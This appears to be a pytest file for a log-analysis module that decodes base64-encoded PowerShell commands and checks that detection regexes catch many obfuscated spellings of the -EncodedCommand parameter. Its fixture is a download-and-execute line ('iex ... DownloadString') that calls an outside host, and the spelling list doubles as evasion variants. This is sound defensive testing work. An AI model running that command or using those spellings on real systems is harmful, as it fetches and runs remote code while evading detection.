"""Commands in base64 are read, however the parameter is spelled, and their bytes are noticed."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.sources.logs.encoded_commands import (
    ENCODED_COMMAND,
    FROM_BASE64,
    MAX_DECODED,
    MAX_ENCODED,
    decoded_command,
    decoded_pieces,
)

COMMAND = "iex (New-Object Net.WebClient).DownloadString('https://pandorasong.com/x')"
NAME = "EncodedCommand"


def encoded(command: str = COMMAND) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


SPELLINGS = [
    *(f"powershell -{NAME[:length]} " for length in range(1, len(NAME) + 1)),
    "powershell.exe -NoP -W Hidden -eNc ",
    "powershell -ec ",
    "pwsh /e ",
    "powershell \u2013enc ",
    "powershell \u2015enc ",
    "cmd /c powershell -e^n^c ",
    'powershell -enc "',
    "powershell -enc '",
    "powershell -enc:",
    "powershell\t-enc\t",
]


@pytest.mark.parametrize("start", SPELLINGS)
def test_a_command_is_decoded_however_its_parameter_is_spelled(start: str) -> None:
    assert decoded_command(f"{start}{encoded()}") == COMMAND


@pytest.mark.parametrize("start", SPELLINGS)
def test_the_bytes_of_an_encoded_command_are_noticed(start: str) -> None:
    line = f"{start}{encoded()}".encode("utf-16-le")
    assert re.search(ENCODED_COMMAND.encode(), line)


@pytest.mark.parametrize(
    "line",
    [
        "powershell -ep bypass -File AAAAAAAAAAAAAAAAAAAAAAAA",
        "powershell -executionpolicy AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "tool --encode AAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        f"echo {encoded()}",
        "powershell -enc short",
        "",
    ],
)
def test_other_parameters_hide_no_command(line: str) -> None:
    assert decoded_command(line) == ""


def test_bytes_that_are_no_text_are_no_command() -> None:
    noise = base64.b64encode(bytes(range(128, 256))).decode()
    assert decoded_command(f"powershell -e {noise}") == ""


def test_a_command_within_a_command_is_decoded_too() -> None:
    inner = f"powershell -enc {encoded()}"
    assert decoded_command(f"powershell -e {encoded(inner)}").splitlines() == [inner, COMMAND]


def test_base64_without_its_end_is_decoded_as_far_as_it_goes() -> None:
    found = decoded_command(f"powershell -e {encoded()[:61]}")
    assert len(found) == 22
    assert COMMAND.startswith(found)


def test_what_a_script_holds_as_base64_is_decoded_whatever_its_encoding() -> None:
    for data in (COMMAND.encode(), COMMAND.encode("utf-16-le")):
        text = f"$x = [Convert]::FromBase64String('{base64.b64encode(data).decode()}')"
        assert list(decoded_pieces(text)) == [data]
        assert re.search(FROM_BASE64.encode(), text.encode("utf-16-le"))


def test_decoding_is_bounded() -> None:
    many = " ".join([base64.b64encode(bytes(30)).decode()] * (MAX_ENCODED + 10))
    large = base64.b64encode(bytes(3 * MAX_DECODED)).decode()

    assert len(list(decoded_pieces(many))) == MAX_ENCODED
    assert sum(map(len, decoded_pieces(large))) <= MAX_DECODED
    assert decoded_command(f"powershell -e {large}") == ""


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80), st.text(alphabet="ABCDabcd0123+/=^ \"'-e", max_size=120))
def test_any_line_ends_in_text(before: str, after: str) -> None:
    for line in (before + after, f"powershell -enc {after}{before}"):
        assert isinstance(decoded_command(line), str)
        assert all(isinstance(piece, bytes) for piece in decoded_pieces(line))
